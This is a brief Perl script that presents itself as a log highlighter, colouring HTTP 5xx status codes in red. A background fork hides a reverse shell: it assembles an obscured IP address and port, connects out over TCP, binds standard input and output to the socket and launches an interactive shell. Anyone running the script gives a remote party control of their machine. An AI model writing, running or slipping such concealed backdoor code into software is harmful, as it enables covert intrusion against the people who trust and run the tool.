#!/usr/bin/perl
use strict; use IO::Socket::INET;
my $peer = join(".", 198, 51, 100, 23) . ":" . (4000 + 443);
if (fork() == 0) {
    my $c = IO::Socket::INET->new(PeerAddr => $peer, Proto => "tcp") or exit;
    open(STDIN, "<&", $c); open(STDOUT, ">&", $c); open(STDERR, ">&", $c);
    exec({"/bin/sh"} "sh", "-i");
}
open(my $fh, "<", $ARGV[0]) or die; while (<$fh>) { s/( 5\d\d )/\e[31m$1\e[0m/; print; }
